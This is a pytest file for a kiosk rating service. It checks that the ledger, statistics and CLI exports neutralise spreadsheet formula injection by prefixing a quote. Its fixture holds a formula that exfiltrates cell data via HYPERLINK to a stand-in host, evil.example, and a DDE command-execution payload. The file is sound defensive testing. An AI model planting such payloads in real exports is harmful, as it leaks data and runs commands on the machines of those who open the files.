"""Text typed by citizens and staff comes out of every export as text, never a formula:
the 差评 ledger XLSX, the statistics CSV/XLSX and `ratings export --format csv`."""
import csv
import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from kiosk.exports import FORMULA_STARTS, safe_cell
from kiosk.extensions import db
from kiosk.models import Staff
from kiosk.models.base import utcnow
from kiosk.ratings.service import record_rating
from kiosk.timeutil import to_local
from tests.cases.helpers import add_users, login

pytestmark = pytest.mark.timeout(60)
COMMENT = '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")'
STAFF_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(app):
    add_users(app)
    with app.app_context():
        staff = db.session.scalars(sa.select(Staff).where(Staff.staff_no == "YN0101")).one()
        staff.name = STAFF_NAME  # the clerk of window A01
        db.session.commit()
        record_rating(window_code="A01", level=5, channel="touch", reasons=["R01"],
                      comment=COMMENT)
        for text in ("@SUM(1+1)", "-2+3", "+86 138", "\t=1+1", "\r=1"):
            record_rating(window_code="A02", level=2, channel="touch", comment=text)
    return app


def text_cells(rows) -> list[str]:
    return [v for row in rows for v in row if isinstance(v, str)]


def assert_all_text(cells: list[str]) -> None:
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert dangerous == []


def test_the_helper_follows_owasp():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", 5, -5,
                                   None)] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx",
                                              "a=1", "", 5, -5, None]


def test_ledger_xlsx_has_no_formula(hostile):
    web = login(hostile, "mgr")
    data = web.get("/admin/cases/ledger.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in book.read(n).decode() for n in sheets)
    rows = [[c.value for c in r] for r in load_workbook(io.BytesIO(data))["差评台账"].iter_rows()]
    assert "'" + COMMENT in rows[1]
    assert_all_text(text_cells(rows))


def test_statistics_csv_and_xlsx_keep_a_staff_name_as_text(hostile):
    web = login(hostile, "mgr")
    today = to_local(utcnow()).date().isoformat()
    query = f"?table=breakdown&by=staff&from={today}&to={today}"
    body = web.get("/admin/stats/export.csv" + query).data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert any(c.startswith("'" + STAFF_NAME) for c in text_cells(rows))
    assert_all_text(text_cells(rows))
    data = web.get("/admin/stats/export.xlsx" + query).data
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert any(str(c.value).startswith("'" + STAFF_NAME) for c in cells)
    assert all(c.data_type != "f" for c in cells)


def test_ratings_export_csv_neutralises_comments(hostile):
    out = hostile.test_cli_runner().invoke(args=["ratings", "export", "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.output)))
    comments = {r[rows[0].index("comment")] for r in rows[1:]}
    # (the service trims surrounding whitespace: the tab-led comment arrives as =1+1)
    assert {"'" + COMMENT, "'@SUM(1+1)", "'-2+3", "'+86 138", "'=1+1"} <= comments
    assert_all_text(text_cells(rows))
